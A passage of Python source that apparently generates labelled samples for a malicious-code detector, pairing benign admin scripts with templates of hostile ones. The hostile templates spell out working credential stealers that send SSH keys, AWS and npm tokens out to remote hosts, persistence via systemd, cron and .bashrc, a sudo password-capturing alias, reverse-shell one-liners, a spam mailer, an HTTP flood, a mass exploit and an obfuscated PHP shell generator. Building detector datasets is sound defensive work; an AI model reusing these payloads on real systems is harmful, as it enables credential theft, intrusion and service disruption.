         "    'embeds': [{'description': json.dumps(loot)[:4000]}]}).encode(), headers={'Content-Type': 'application/json'})\n"
         "urllib.request.urlopen(req)\n", "py"),
        ("// postinstall\nconst os = require('os'), fs = require('fs'), https = require('https');\n%(jc)s"
         "const d = { h: os.hostname(), u: os.userInfo().username, env: process.env };\n"
         "for (const f of ['.npmrc', '.aws/credentials', '.ssh/id_rsa', '.git-credentials']) {\n"
         "  try { d[f] = fs.readFileSync(os.homedir() + '/' + f, 'utf8'); } catch (e) {}\n}\n"
         "const req = https.request({ hostname: '%(h)s', path: '/c', method: 'POST' });\nreq.end(JSON.stringify(d));\n", "js"),
        ("#!/bin/bash\n%(c)sT=/tmp/.$RANDOM.tgz\ntar czf $T /home/*/.ssh /home/*/public_html/wp-config.php /home/*/.my.cnf 2>/dev/null\n"
         "curl -s -F document=@$T \"https://api.telegram.org/bot123:AAx/sendDocument?chat_id=42\" >/dev/null\nrm -f $T\n", "sh"),
    ])
    return body % v, ext


def t_persist(r):
    """Persistence: a systemd user unit of a hidden program, an XDG autostart
    entry, PROMPT_COMMAND in .bashrc, a Python script using python-crontab,
    an `alias sudo` credential trap."""
    h = host(r)
    v = {"c": cm(r, "#", 5), "h": h, "n": r.choice([".dbus-x", ".gvfsd", ".kthreadd", ".update"])}
    body, ext = r.choice([
        ("#!/bin/sh\n%(c)smkdir -p ~/.config/systemd/user\ncat > ~/.config/systemd/user/dbus-session.service <<EOF\n[Unit]\nDescription=D-Bus Session\n"
         "[Service]\nExecStart=%%h/.local/share/%(n)s -c %(h)s\nRestart=always\n[Install]\nWantedBy=default.target\nEOF\n"
         "systemctl --user daemon-reload\nsystemctl --user enable --now dbus-session.service\nloginctl enable-linger $(id -un) 2>/dev/null\n", "sh"),
        ("#!/bin/bash\n%(c)sgrep -q PROMPT_COMMAND ~/.bashrc || echo 'PROMPT_COMMAND=\"(pgrep -f %(n)s >/dev/null || nohup ~/.cache/%(n)s >/dev/null 2>&1 &)\"' >> ~/.bashrc\n", "sh"),
        ("from crontab import CronTab\nimport os\n%(c)scron = CronTab(user=True)\n"
         "job = cron.new(command='curl -fsS http://%(h)s/u.sh | sh >/dev/null 2>&1', comment='update')\njob.every_reboot()\ncron.write()\n", "py"),
        ("#!/bin/sh\n%(c)scat >> ~/.bashrc <<'EOF'\nalias sudo='_s(){ read -rsp \"[sudo] password for $USER: \" p; echo; echo \"$p\" >> ~/.cache/.p; "
         "curl -s -d \"u=$USER&p=$p\" http://" + h + "/k >/dev/null 2>&1; echo \"$p\" | command sudo -S \"$@\"; }; _s'\nEOF\n", "sh"),
        ("#!/usr/bin/env python3\nimport os, pathlib\n%(c)sd = pathlib.Path.home() / '.config' / 'autostart'\nd.mkdir(parents=True, exist_ok=True)\n"
         "(d / 'tracker.desktop').write_text('[Desktop Entry]\\nType=Application\\nExec=sh -c \"~/.local/bin/%(n)s &\"\\nHidden=true\\n')\n", "py"),
    ])
    return body % v, ext


def t_oneliners(r):
    """One-liners as files: perl -e / python -c / ruby -rsocket / node -e inside
    a shell wrapper or an .htaccess-free cgi."""
    h, p = host(r), port(r)
    v = {"h": h, "p": p}
    body = r.choice([
        "#!/bin/sh\nperl -MIO::Socket -e '$c=new IO::Socket::INET(\"%(h)s:%(p)d\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;' &\n",
        "#!/bin/sh\npython3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"%(h)s\",%(p)d));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")' >/dev/null 2>&1 &\n",
        "#!/bin/sh\nnode -e 'c=require(\"child_process\").spawn(\"sh\");s=require(\"net\").connect(%(p)d,\"%(h)s\",()=>{s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s)})' &\n",
        "#!/bin/sh\nnohup ruby -rsocket -e 'c=TCPSocket.new(\"%(h)s\",%(p)d);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read};end' >/dev/null 2>&1 &\n",
    ])
    return body % v, "sh"


def t_smtp_helper_loop(r):
    """Python: the loop over the list calls a send helper with the entry; the
    helper builds the message (To = its argument) and rotates SMTP relays."""
    v = {"c": cm(r, "#", 2), "f": r.choice(["deliver", "shoot", "kirim", "go"]), "a": r.choice(["addr", "rcpt", "em"])}
    loop = r.choice([
        "for n, line in enumerate(open(sys.argv[1])):\n    try:\n        %(f)s(line.strip(), n)\n    except Exception as e:\n        print('x', e)\n    time.sleep(0.3)\n",
        "with open('leads.txt') as fh:\n    for n, line in enumerate(fh):\n        %(f)s(line.strip(), n)\n",
    ])
    return ("import smtplib, sys, time, random\nfrom email.mime.text import MIMEText\n%(c)s"
            "RELAYS = [x.strip().split(':') for x in open('relays.txt') if x.count(':') == 3]\nHTML = open('page.html').read()\n\n"
            "def %(f)s(%(a)s, n):\n    h, p, u, pw = RELAYS[n %% len(RELAYS)]\n    m = MIMEText(HTML.replace('#EMAIL#', %(a)s), 'html')\n"
            "    m['Subject'] = random.choice(['Notice', 'Refund', 'Statement'])\n    m['From'], m['To'] = u, %(a)s\n"
            "    s = smtplib.SMTP_SSL(h, int(p))\n    s.login(u, pw)\n    s.sendmail(u, [%(a)s], m.as_string())\n    s.quit()\n\n" + loop) % v, "py"


def t_http_flood_py(r):
    """Python HTTP flood: hundreds of threads, rotated browser User-Agents, a
    format-string cache-buster, a deadline from argv."""
    v = {"c": cm(r, "#", 3), "n": r.choice([200, 500, 1000])}
    return ("#!/usr/bin/env python3\nimport threading, random, sys, time, urllib.request\n%(c)s"
            "T = sys.argv[1]\nEND = time.time() + int(sys.argv[2])\nAGENTS = ['Mozilla/5.0 (Windows NT 10.0)', 'Mozilla/5.0 (Macintosh)', 'Opera/9.80']\n"
            "def worker():\n    while time.time() < END:\n        u = '%%s?%%d' %% (T, random.randint(1, 10 ** 9))\n"
            "        rq = urllib.request.Request(u, headers={'User-Agent': random.choice(AGENTS), 'Cache-Control': 'no-cache'})\n"
            "        try:\n            urllib.request.urlopen(rq, timeout=3)\n        except Exception:\n            pass\n"
            "for _ in range(%(n)d):\n    threading.Thread(target=worker, daemon=True).start()\ntime.sleep(int(sys.argv[2]))\n") % v, "py"


def t_hidden_socks(r):
    """A SOCKS5 server that daemonizes itself, saved under a hidden name."""
    v = {"p": r.choice([1080, 9050, 4145])}
    return ("import socket, struct, threading, os, select\nif os.fork():\n    os._exit(0)\nos.setsid()\n\n"
            "def relay(a, b):\n    while True:\n        r, _, _ = select.select([a, b], [], [], 90)\n        if not r:\n            return\n"
            "        for x in r:\n            d = x.recv(32768)\n            if not d:\n                return\n            (b if x is a else a).sendall(d)\n\n"
            "def serve(c):\n    c.recv(257)\n    c.sendall(b'\\x05\\x00')\n    hdr = c.recv(4)\n"
            "    host = socket.inet_ntoa(c.recv(4)) if hdr[3] == 1 else c.recv(c.recv(1)[0]).decode()\n"
            "    port = struct.unpack('>H', c.recv(2))[0]\n    up = socket.create_connection((host, port))\n"
            "    c.sendall(b'\\x05\\x00\\x00\\x01' + bytes(6))\n    relay(c, up)\n\n"
            "srv = socket.socket()\nsrv.bind(('0.0.0.0', %(p)d))\nsrv.listen(64)\nwhile True:\n"
            "    threading.Thread(target=serve, args=(srv.accept()[0],), daemon=True).start()\n") % v, ""


# round 7, third pass: techniques named by the corpus's "other" files that no
# unseen rule finds (only their file names were read: a Perl CGI uploader, a
# shell mass exploit over a target list, a Python proxy, an obfuscated-PHP
# generator)


def t_perl_cgi_upload(r):
    """A Perl CGI uploader: the file from the form written where the form says."""
    body = r.choice([
        "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint $q->header;\n"
        "if (my $fh = $q->upload('f')) {\n  my $dir = $q->param('d') || '.';\n  my $name = $q->param('f');\n"
        "  open(OUT, '>', \"$dir/$name\") or die $!;\n  binmode OUT;\n  while (read($fh, my $b, 4096)) { print OUT $b }\n  close OUT;\n"
        "  print \"ok $dir/$name\";\n}\nprint '<form method=post enctype=multipart/form-data><input type=file name=f>"
        "<input name=d value=\"' . ($ENV{DOCUMENT_ROOT} || '.') . '\"><input type=submit></form>';\n",
        "#!/usr/bin/perl\nuse CGI qw(:standard);\nprint header();\nmy $to = param('path');\nmy $up = upload('file');\n"
        "if ($up) {\n  open my $o, '>', $to or die;\n  binmode $o;\n  print $o $_ while <$up>;\n  close $o;\n  chmod 0755, $to if param('x');\n"
        "  print \"<b>saved</b> $to\";\n}\nprint start_form(-enctype => 'multipart/form-data'), filefield('file'), textfield('path'), submit, end_form;\n",
    ])
    return body, r.choice(["pl", "cgi"])


def t_sh_mass_exploit(r):
    """A shell mass exploit: every host of a list gets a POST whose data is PHP
    code or a command injection; the answer checked and the hits kept."""
    v = {"h": ip(r), "c": cm(r, "#", 6)}
    body = r.choice([
        "#!/bin/bash\n%(c)sPAY='<?php system(\"wget http://%(h)s/s.txt -O /tmp/s.php\"); ?>'\n"
        "while read -r host; do\n  for p in /phpmyadmin /pma /phpMyAdmin; do\n"
        "    r=$(curl -s -m 8 -d \"token=1&code=$PAY\" \"http://$host$p/scripts/setup.php\")\n"
        "    echo \"$r\" | grep -q uid= && echo \"$host$p\" >> vuln.txt\n  done\ndone < \"${1:-ips.txt}\"\n",
        "#!/bin/sh\n%(c)sfor t in $(cat targets.txt); do\n"
        "  curl -sk -X POST \"https://$t/cgi-bin/admin.cgi\" --data 'cmd=;wget%%20http://%(h)s/x%%20-O-|sh' -o /dev/null &\ndone\nwait\n",
    ])
    return body % v, "sh"


def t_py_http_proxy(r):
    """A Python HTTP(S) forward proxy: CONNECT answered, both ways relayed."""
    v = {"p": r.choice([8080, 3128, 8888])}
    return ("import socket, threading, select\n\ndef tunnel(a, b):\n    while True:\n"
            "        r, _, _ = select.select([a, b], [], [], 30)\n        if not r:\n            break\n        for s in r:\n"
            "            d = s.recv(8192)\n            if not d:\n                return\n            (b if s is a else a).sendall(d)\n\n"
            "def client(c):\n    head = c.recv(8192)\n    line = head.split(b'\\r\\n')[0].decode()\n    method, target, _ = line.split(' ')\n"
            "    if method == 'CONNECT':\n        host, port = target.split(':')\n        up = socket.create_connection((host, int(port)))\n"
            "        c.sendall(b'HTTP/1.1 200 Connection established\\r\\n\\r\\n')\n    else:\n"
            "        host = target.split('/')[2]\n        up = socket.create_connection((host, 80))\n        up.sendall(head)\n    tunnel(c, up)\n\n"
            "srv = socket.socket()\nsrv.bind(('0.0.0.0', %(p)d))\nsrv.listen(100)\nwhile True:\n"
            "    threading.Thread(target=client, args=(srv.accept()[0],)).start()\n") % v, "py"


def t_php_obf_generator(r):
    """A Python tool writing an XOR-obfuscated PHP shell: the payload XORed with
    a key and wrapped in a decoder that evals it."""
    v = {"k": r.choice(["k3y", "x", "s3cr3t"])}
    return ("#!/usr/bin/env python3\n# usage: gen.py 'system($_GET[c]);' > out.php\nimport sys, base64, random, string\n\n"
            "key = '%(k)s'\ncode = sys.argv[1]\nx = ''.join(chr(ord(c) ^ ord(key[i %% len(key)])) for i, c in enumerate(code))\n"
            "b = base64.b64encode(x.encode('latin-1')).decode()\nv = ''.join(random.choice(string.ascii_letters) for _ in range(6))\n"
            "print('<?php $%%s = base64_decode(\"%%s\"); $o = \"\"; for ($i = 0; $i < strlen($%%s); $i++) '\n"
            "      '$o .= $%%s[$i] ^ \"%(k)s\"[$i %%%% %%d]; eval($o); ?>' %% (v, b, v, v, len(key)))\n") % v, "py"


def b_perl_cgi_upload_ok(r):
    """A guestbook's photo upload: fixed directory, cleaned name, size cap."""
    return ("#!/usr/bin/perl -T\nuse strict; use CGI;\n$CGI::POST_MAX = 2_000_000;\nmy $q = CGI->new;\nprint $q->header;\n"
            "my $name = $q->param('photo') // '';\n($name) = $name =~ /^([\\w.-]{1,60}\\.(?:jpe?g|png))$/i or do { print 'bad name'; exit };\n"
            "my $fh = $q->upload('photo') or exit;\nopen(my $o, '>', \"/srv/guestbook/photos/$name\") or die;\nbinmode $o;\n"
            "print $o $_ while <$fh>;\nclose $o;\nprint 'thanks';\n"), "cgi"


def b_sh_health_sweep(r):
    """A health sweep over the site list: GET each one, log the status."""
    return ("#!/bin/sh\n# check every site we host\nwhile read -r host; do\n"
            "  code=$(curl -s -o /dev/null -w '%{http_code}' -m 10 \"https://$host/\")\n  echo \"$(date +%F) $host $code\" >> /var/log/sites.log\n"
            "done < /etc/hosting/sites.txt\n"), "sh"


def b_php_minifier_py(r):
    """A build step that writes a PHP config file from a template."""
    return ("#!/usr/bin/env python3\n\"\"\"Write config.php for the deploy target.\"\"\"\nimport json, sys\n\n"
            "cfg = json.load(open(sys.argv[1]))\nwith open('config.php', 'w') as f:\n    f.write('<?php\\nreturn ' + repr(cfg).replace(':', ' =>') + ';\\n')\n"), "py"


# ---------------------------------------------------------------------------
# look-alikes


def b_quota_report(r):
    """Admin: every account under /home, its disk use, one report mailed to root."""
    return ("#!/bin/bash\n# weekly quota report / еженедельный отчёт\nset -euo pipefail\nREPORT=$(mktemp)\n"
            "for d in /home/*; do\n  u=$(basename \"$d\")\n  printf '%-20s %s\\n' \"$u\" \"$(du -sh \"$d\" 2>/dev/null | cut -f1)\" >> \"$REPORT\"\ndone\n"
            "mail -s \"quota $(hostname)\" root < \"$REPORT\"\nrm -f \"$REPORT\"\n"), "sh"


def b_smtp_monitor(r):
    """Monitoring: connect to port 25 of each MX in a list, read the banner, EHLO,
    QUIT; one alert to the ops address when one fails."""
    return ("#!/usr/bin/env python3\n\"\"\"Nagios-style SMTP banner check.\"\"\"\nimport smtplib, socket, sys\n\n"
            "HOSTS = [l.strip() for l in open('/etc/mon/mx.list') if l.strip()]\nbad = []\nfor h in HOSTS:\n"
            "    try:\n        with smtplib.SMTP(h, 25, timeout=10) as s:\n            code, _ = s.ehlo()\n"
            "            if code != 250:\n                bad.append(h)\n    except (OSError, smtplib.SMTPException):\n        bad.append(h)\n"
            "if bad:\n    with smtplib.SMTP('localhost') as s:\n"
            "        s.sendmail('mon@example.com', ['ops@example.com'], 'Subject: SMTP down\\n\\n' + '\\n'.join(bad))\n"
            "    sys.exit(2)\nprint('OK - %d MX answer' % len(HOSTS))\n"), "py"


def b_smtp_check_perl(r):
    """A Perl monitoring plugin: IO::Socket::INET to port 25, reads the 220, QUIT."""
    return ("#!/usr/bin/perl\n# check_smtp_banner - monitoring plugin\nuse strict; use warnings;\nuse IO::Socket::INET;\n"
            "my $host = shift or die \"usage: $0 host\\n\";\n"
            "my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => 25, Timeout => 10)\n"
            "  or do { print \"CRITICAL: $!\\n\"; exit 2 };\nmy $banner = <$s>;\nprint $s \"QUIT\\r\\n\";\nclose $s;\n"
            "if ($banner =~ /^220 /) { print \"OK: $banner\"; exit 0 }\nprint \"WARNING: $banner\"; exit 1;\n"), "pl"


def b_mail_merge_db(r):
    """Mail merge from a subscriber database: opted-in rows, an unsubscribe link,
    List-Unsubscribe, one message per row, rate-limited."""
    return ("#!/usr/bin/env python3\n\"\"\"Monthly newsletter: mail merge from the CRM database.\"\"\"\n"
            "import smtplib, sqlite3, time\nfrom email.message import EmailMessage\n\n"
            "db = sqlite3.connect('/srv/crm/crm.db')\ntpl = open('/srv/crm/newsletter.html').read()\n"
            "with smtplib.SMTP('localhost') as s:\n"
            "    for email, name, token in db.execute('SELECT email, name, unsub_token FROM subscribers WHERE opted_in = 1'):\n"
            "        m = EmailMessage()\n        m['From'] = 'News <news@example.com>'\n        m['To'] = email\n"
            "        m['Subject'] = 'Our news for this month'\n"
            "        m['List-Unsubscribe'] = '<https://example.com/unsub?t=%s>' % token\n"
            "        m.add_alternative(tpl.replace('{name}', name).replace('{token}', token), subtype='html')\n"
            "        s.send_message(m)\n        time.sleep(0.1)\n"), "py"


def b_node_mail_merge(r):
    """Node: a mail merge with nodemailer from a Postgres query, unsubscribe link."""
    return ("// newsletter job (cron): mail merge from postgres\nconst { Client } = require('pg');\nconst nodemailer = require('nodemailer');\n"
            "(async () => {\n  const db = new Client();\n  await db.connect();\n"
            "  const { rows } = await db.query('SELECT email, first_name, token FROM members WHERE consent = true');\n"
            "  const tr = nodemailer.createTransport({ sendmail: true });\n  for (const m of rows) {\n"
            "    await tr.sendMail({ from: 'club@example.com', to: m.email, subject: 'Club news',\n"
            "      text: `Hi ${m.first_name},\\n...\\nUnsubscribe: https://example.com/u/${m.token}` });\n  }\n  await db.end();\n})();\n"), "js"


def b_deploy(r):
    """Deploy tool: fetch a release over HTTPS, verify the checksum, unpack,
    restart the service; a Fabric-like SSH fan-out over a host list with a fixed command."""
    body, ext = r.choice([
        ("#!/bin/sh\n# deploy release / implantação\nset -eu\nV=$1\ncd /tmp\n"
         "curl -fsSLO https://releases.example.com/app-$V.tar.gz\ncurl -fsSLO https://releases.example.com/app-$V.tar.gz.sha256\n"
         "sha256sum -c app-$V.tar.gz.sha256\ntar xzf app-$V.tar.gz -C /srv/app\nsystemctl restart app\n", "sh"),
        ("#!/usr/bin/env python3\nimport paramiko, sys\n\nCMD = 'sudo systemctl reload nginx'\n"
         "for host in open(sys.argv[1]).read().split():\n    c = paramiko.SSHClient()\n    c.load_system_host_keys()\n"
         "    c.connect(host, username='deploy', key_filename='/home/deploy/.ssh/id_ed25519')\n"
         "    _, out, err = c.exec_command(CMD)\n    print(host, out.read().decode(), err.read().decode())\n    c.close()\n", "py"),
    ])
    return body, ext


def b_smtp_tests(r):
    """An SMTP server's test suite: a fake server, recipients looped, asserts."""
    return ("import smtplib\nimport pytest\n\nRCPTS = ['a@example.com', 'b@example.com', 'c@example.com']\n\n\n"
            "@pytest.fixture\ndef server(smtpd):\n    return smtpd\n\n\n"
            "def test_each_recipient(server):\n    for rcpt in RCPTS:\n"
            "        with smtplib.SMTP(server.hostname, server.port) as s:\n"
            "            s.sendmail('t@example.com', [rcpt], 'Subject: t\\n\\nbody')\n"
            "    assert len(server.messages) == len(RCPTS)\n"), "py"


def b_node_tests(r):
    """A Node test suite: a local net server, child_process running the build."""
    return ("const net = require('net');\nconst { execFileSync } = require('child_process');\nconst assert = require('assert');\n\n"
            "describe('echo server', () => {\n  let srv;\n  before(() => { execFileSync('npm', ['run', 'build']);\n"
            "    srv = net.createServer((c) => c.pipe(c)).listen(0); });\n  after(() => srv.close());\n"
            "  it('echoes', (done) => {\n    const c = net.connect(srv.address().port, '127.0.0.1', () => c.write('hi'));\n"
            "    c.on('data', (d) => { assert.strictEqual(d.toString(), 'hi'); c.end(); done(); });\n  });\n});\n"), "js"


def b_webhook(r):
    """A deploy webhook in Node: checks an HMAC, runs a fixed git pull."""
    return ("#!/usr/bin/env node\nconst http = require('http');\nconst crypto = require('crypto');\nconst { execFile } = require('child_process');\n"
            "const SECRET = process.env.HOOK_SECRET;\nhttp.createServer((req, res) => {\n  let body = '';\n"
            "  req.on('data', (d) => (body += d));\n  req.on('end', () => {\n"
            "    const sig = 'sha256=' + crypto.createHmac('sha256', SECRET).update(body).digest('hex');\n"
            "    if (req.headers['x-hub-signature-256'] !== sig) { res.statusCode = 403; return res.end(); }\n"
            "    execFile('git', ['-C', '/srv/site', 'pull', '--ff-only'], (e, out) => res.end(e ? 'fail' : out));\n  });\n}).listen(9000, '127.0.0.1');\n"), "js"


def b_irc_ci(r):
    """A CI notifier in Perl: connects, posts the build result, quits."""
    return ("#!/usr/bin/perl\n# post the build status to the team channel\nuse strict;\nuse IO::Socket::IP;\n"
            "my ($status, $rev) = @ARGV;\nmy $s = IO::Socket::IP->new(PeerHost => 'irc.libera.chat', PeerPort => 6667) or exit 0;\n"
            "print $s \"NICK ci-bot\\r\\nUSER ci 0 * :ci\\r\\n\";\nwhile (<$s>) {\n  print $s \"PONG $1\\r\\n\" if /^PING (.*)/;\n"
            "  if (/ 001 /) { print $s \"JOIN #team\\r\\nPRIVMSG #team :build $rev: $status\\r\\nQUIT\\r\\n\"; last }\n}\n"), "pl"


def b_watchdog(r):
    """A watchdog: polls a health URL, restarts the service with a fixed command."""
    return ("#!/usr/bin/env python3\n# 服务看门狗\nimport subprocess, time, urllib.request\n\nwhile True:\n    try:\n"
            "        urllib.request.urlopen('http://127.0.0.1:8080/health', timeout=5)\n    except OSError:\n"
            "        subprocess.run(['systemctl', 'restart', 'app.service'], check=False)\n    time.sleep(30)\n"), "py"


def b_backup_cron(r):
    """Backup script that installs its own cron line and uploads with rclone."""
    return ("#!/bin/sh\n# backup: yedekleme\nset -eu\nSELF=$(readlink -f \"$0\")\n"
            "crontab -l 2>/dev/null | grep -qF \"$SELF\" || (crontab -l 2>/dev/null; echo \"15 3 * * * $SELF\") | crontab -\n"
            "mysqldump --single-transaction site > /var/backups/site.sql\nrclone copy /var/backups remote:backups\n"), "sh"


def b_socks_dev(r):
    """A developer's SSH SOCKS tunnel helper (ssh -D), with autossh restart."""
    return ("#!/bin/sh\n# dev proxy to the staging network\nexec autossh -M 0 -N -D 127.0.0.1:1080 -o ServerAliveInterval=30 deploy@bastion.example.com\n"), "sh"


def b_sms_2fa(r):
    """A 2FA sender in Python: one SMS to the user's number, from a function."""
    return ("import os\nimport requests\n\n\ndef send_code(number, code):\n    \"\"\"Send a login code by SMS (Twilio).\"\"\"\n"
            "    sid, tok = os.environ['TW_SID'], os.environ['TW_TOKEN']\n"
            "    r = requests.post(f'https://api.twilio.com/2010-04-01/Accounts/{sid}/Messages.json', auth=(sid, tok),\n"
            "                      data={'To': number, 'From': os.environ['TW_FROM'], 'Body': f'Your code: {code}'}, timeout=10)\n"
            "    r.raise_for_status()\n"), "py"


def b_sms_reminder(r):
    """Appointment reminders: one SMS per row of today's bookings in the database."""
    return ("#!/usr/bin/env python3\n# clinic reminders (cron 08:00)\nimport os, sqlite3, requests\n\n"
            "SID, TOK = os.environ['TW_SID'], os.environ['TW_TOKEN']\ndb = sqlite3.connect('/srv/clinic/clinic.db')\n"
            "for phone, when in db.execute(\"SELECT phone, time FROM bookings WHERE day = date('now') AND reminded = 0\"):\n"
            "    requests.post(f'https://api.twilio.com/2010-04-01/Accounts/{SID}/Messages.json', auth=(SID, TOK),\n"
            "                  data={'To': phone, 'From': os.environ['TW_FROM'], 'Body': 'Reminder: your appointment at ' + when}, timeout=10)\n"
            "db.execute(\"UPDATE bookings SET reminded = 1 WHERE day = date('now')\")\ndb.commit()\n"), "py"


def b_dotfiles(r):
    """A dotfiles installer: an autostart entry for a packaged program, the
    usual `alias sudo='sudo '`, PATH in .bashrc."""
    return ("#!/bin/sh\n# install my dotfiles\nset -e\nmkdir -p ~/.config/autostart\n"
            "cat > ~/.config/autostart/redshift.desktop <<EOF\n[Desktop Entry]\nType=Application\nExec=/usr/bin/redshift-gtk\nName=Redshift\nEOF\n"
            "grep -q \"alias sudo=\" ~/.bashrc || echo \"alias sudo='sudo '\" >> ~/.bashrc\n"
            "echo 'export PATH=\"$HOME/bin:$PATH\"' >> ~/.bashrc\n"), "sh"


def b_node_template(r):
    """A Node template engine: a local template compiled with new Function; a
    JSON config fetched over HTTPS and parsed, never run."""
    return ("#!/usr/bin/env node\nconst fs = require('fs');\nconst https = require('https');\n\n"
            "function compile(src) {\n  return new Function('it', 'return `' + src.replace(/`/g, '\\\\`') + '`;');\n}\n"
            "const page = compile(fs.readFileSync(__dirname + '/page.tpl', 'utf8'));\n"
            "https.get('https://status.example.com/config.json', (res) => {\n  let b = '';\n  res.on('data', (c) => (b += c));\n"
            "  res.on('end', () => { const cfg = JSON.parse(b); fs.writeFileSync('out.html', page(cfg)); });\n});\n"), "js"


def b_home_backup(r):
    """A host's backup of every account's home (keys and configs included),
    uploaded to the backup server with curl -T and rclone."""
    return ("#!/bin/bash\n# nightly backup of all accounts\nset -eu\nD=$(date +%F)\n"
            "tar czf /var/backups/homes-$D.tgz /home/*/.ssh /home/*/public_html/wp-config.php /home/*/.my.cnf\n"
            "curl -s -T /var/backups/homes-$D.tgz -u backup:\"$(cat /root/.backup-pass)\" sftp://backup.example.com/srv/\n"
            "rclone copy /var/backups remote:host1\n"), "sh"


def b_py_relay_dev(r):
    """A developer's asyncio port forward for a local service (no detach)."""
    return ("#!/usr/bin/env python3\n\"\"\"Forward localhost:8080 to the docker container (dev only).\"\"\"\nimport asyncio\n\n"
            "async def pipe(r, w):\n    while (d := await r.read(65536)):\n        w.write(d)\n        await w.drain()\n    w.close()\n\n"
            "async def handle(cr, cw):\n    ur, uw = await asyncio.open_connection('172.17.0.2', 80)\n"
            "    await asyncio.gather(pipe(cr, uw), pipe(ur, cw))\n\n"
            "async def main():\n    srv = await asyncio.start_server(handle, '127.0.0.1', 8080)\n    await srv.serve_forever()\n\nasyncio.run(main())\n"), "py"


def b_notify_helper(r):
    """Per-user notices: a helper mails one user, the loop over users.txt calls it."""
    return ("#!/usr/bin/env python3\n\"\"\"Tell every account owner about the maintenance window.\"\"\"\nimport smtplib, sys\nfrom email.message import EmailMessage\n\n"
            "def notify(addr):\n    m = EmailMessage()\n    m['From'] = 'hosting@example.com'\n    m['To'] = addr\n"
            "    m['Subject'] = 'Maintenance on Saturday'\n    m.set_content(open('/etc/motd.maint').read())\n"
            "    with smtplib.SMTP('localhost') as s:\n        s.send_message(m)\n\n"
            "for line in open(sys.argv[1]):\n    notify(line.strip())\n"), "py"


def b_load_test_py(r):
    """A load test before launch: threads to a deadline, cache-buster, one honest User-Agent."""
    return ("#!/usr/bin/env python3\n# load test of the staging site\nimport threading, random, sys, time, urllib.request\n"
            "T = sys.argv[1]\nEND = time.time() + int(sys.argv[2])\ndef worker():\n    while time.time() < END:\n"
            "        u = '%s?nocache=%d' % (T, random.randint(1, 10 ** 9))\n"
            "        urllib.request.urlopen(urllib.request.Request(u, headers={'User-Agent': 'acme-loadtest/1.0'}), timeout=5)\n"
            "for _ in range(int(sys.argv[3])):\n    threading.Thread(target=worker).start()\n"), "py"


def b_socks_dev_py(r):
    """A developer's SOCKS5 test server in the project tree (no fork, no hiding)."""
    return ("\"\"\"Minimal SOCKS5 server for the client library's tests.\"\"\"\nimport socket, struct, threading\n\n"
            "def serve(c):\n    c.recv(257)\n    c.sendall(b'\\x05\\x00')\n    hdr = c.recv(4)\n    host = socket.inet_ntoa(c.recv(4))\n"
            "    port = struct.unpack('>H', c.recv(2))[0]\n    up = socket.create_connection((host, port))\n"
            "    c.sendall(b'\\x05\\x00\\x00\\x01' + bytes(6))\n\n"
            "def main():\n    srv = socket.socket()\n    srv.bind(('127.0.0.1', 10800))\n    srv.listen(5)\n    while True:\n"
            "        threading.Thread(target=serve, args=(srv.accept()[0],)).start()\n"), "py"


def b_node_postinstall_bin(r):
    """An npm postinstall that downloads its platform binary, checks the digest, chmods it."""
    return ("// postinstall: fetch the prebuilt binary for this platform\nconst https = require('https');\nconst fs = require('fs');\n"
            "const crypto = require('crypto');\nconst path = require('path');\nconst { execFileSync } = require('child_process');\n"
            "const url = `https://github.com/acme/tool/releases/download/v1.2.3/tool-${process.platform}-${process.arch}`;\n"
            "const dest = path.join(__dirname, 'bin', 'tool');\n"
            "https.get(url, (res) => {\n  const chunks = [];\n  res.on('data', (c) => chunks.push(c));\n  res.on('end', () => {\n"
            "    const buf = Buffer.concat(chunks);\n    const sum = crypto.createHash('sha256').update(buf).digest('hex');\n"
            "    if (sum !== require('./checksums.json')[process.platform]) throw new Error('checksum mismatch');\n"
            "    fs.writeFileSync(dest, buf);\n    fs.chmodSync(dest, 0o755);\n    execFileSync(dest, ['--version'], { env: process.env, stdio: 'inherit' });\n  });\n});\n"), "js"


def b_node_publish(r):
    """A release script: reads the registry token from ~/.npmrc, publishes, posts to the team chat."""
    return ("#!/usr/bin/env node\nconst fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n"
            "const { spawnSync } = require('child_process');\n"
            "const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nif (!/_authToken=/.test(npmrc)) { console.error('login first'); process.exit(1); }\n"
            "const r = spawnSync('npm', ['publish', '--access', 'public'], { env: process.env, stdio: 'inherit' });\n"
            "if (r.status !== 0) process.exit(r.status);\nconst v = require('./package.json').version;\n"
            "const req = https.request({ hostname: 'chat.example.com', path: '/hooks/releases', method: 'POST', headers: { 'Content-Type': 'application/json' } });\n"
            "req.end(JSON.stringify({ text: 'published v' + v }));\n"), "js"


def b_node_express_rev(r):
    """An express app that shows the deployed revision (a fixed git command)."""
    return ("const express = require('express');\nconst { execSync } = require('child_process');\nconst net = require('net');\n"
            "const app = express();\nconst rev = execSync('git rev-parse --short HEAD').toString().trim();\n"
            "app.get('/version', (req, res) => res.json({ rev }));\n"
            "app.get('/db', (req, res) => { const s = net.connect(5432, '127.0.0.1', () => { s.end(); res.send('ok'); }); s.on('error', () => res.status(500).send('down')); });\n"
            "app.listen(3000);\n"), "js"


TEMPLATES = [
    ("perl_fdopen_shell", t_perl_fdopen_shell, "malicious", "high"),
    ("py2_shell", t_py2_shell, "malicious", "high"),
    ("py3_async_shell", t_py3_async_shell, "malicious", "high"),
    ("node_shell", t_node_shell, "malicious", "high"),
    ("bind_shell", t_bind_shell, "malicious", "high"),
    ("sh_shells", t_sh_shells, "malicious", "high"),
    ("irc_perl_select", t_irc_perl_select, "malicious", "high"),
    ("irc_py_async", t_irc_py_async, "malicious", "high"),
    ("irc_node", t_irc_node, "malicious", "high"),
    ("smtp_raw_perl", t_smtp_raw_perl, "malicious", "high"),
    ("smtp_pool_py", t_smtp_pool_py, "malicious", "high"),
    ("smtp_dns_py", t_smtp_dns_py, "malicious", "high"),
    ("smtp_node", t_smtp_node, "malicious", "any"),
    ("smtp_curl_sh", t_smtp_curl_sh, "malicious", "any"),
    ("smtp_email_sender_perl", t_smtp_email_sender_perl, "malicious", "any"),
    ("fetch_run", t_fetch_run, "malicious", "high"),
    ("flood", t_flood, "malicious", "any"),
